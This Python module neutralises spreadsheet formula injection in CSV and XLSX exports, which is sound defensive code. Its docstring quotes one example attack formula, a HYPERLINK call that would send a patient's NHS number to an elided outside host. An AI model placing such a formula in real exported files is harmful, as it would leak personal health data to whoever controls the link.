"""Spreadsheet cells that cannot be turned against their reader.

A value that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return becomes a
live formula when a spreadsheet opens the file (OWASP, "CSV Injection"): a name imported
as ``=HYPERLINK("http://…/leak?"&C2, "Open")`` would send the NHS number in C2 to whoever
wrote it. So:

- in CSV such a text is written with a leading apostrophe, as OWASP recommends (the
  apostrophe shows: it says the text was neutralised);
- in XLSX every text is a text cell, never a formula, and one that begins with such a
  character also gets Excel's "quote prefix" style, so editing it keeps it text.

Control characters (an older store may hold them) are removed: they are not text a
reader can see, and openpyxl refuses them.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

#: What makes a spreadsheet read a text as a formula (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def clean(value: Any) -> Any:
    """A text without control characters (anything else as it is)."""
    return _CONTROL.sub("", value) if isinstance(value, str) else value


def csv_safe(value: Any) -> Any:
    """A text for a CSV cell: cleaned, and neutralised if it could start a formula."""
    value = clean(value)
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every text cell made safe for CSV."""
    return df.map(csv_safe)


def xlsx_frame(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every text cell cleaned for XLSX (see :func:`fix_sheet` for formulas)."""
    return df.map(clean)


def fix_sheet(sheet: Any) -> int:
    """Make every text cell of an openpyxl sheet a text, never a formula; return how many
    would have been formulas. (openpyxl reads any text beginning with "=" as one.)"""
    neutralised = 0
    for row in sheet.iter_rows():
        for cell in row:
            value = cell.value
            if not isinstance(value, str):
                continue
            if cell.data_type == "f":
                cell.data_type = "s"
                neutralised += 1
            if value.startswith(TRIGGERS):
                cell.quotePrefix = True
    return neutralised


__all__ = ["TRIGGERS", "clean", "csv_frame", "csv_safe", "fix_sheet", "xlsx_frame"]
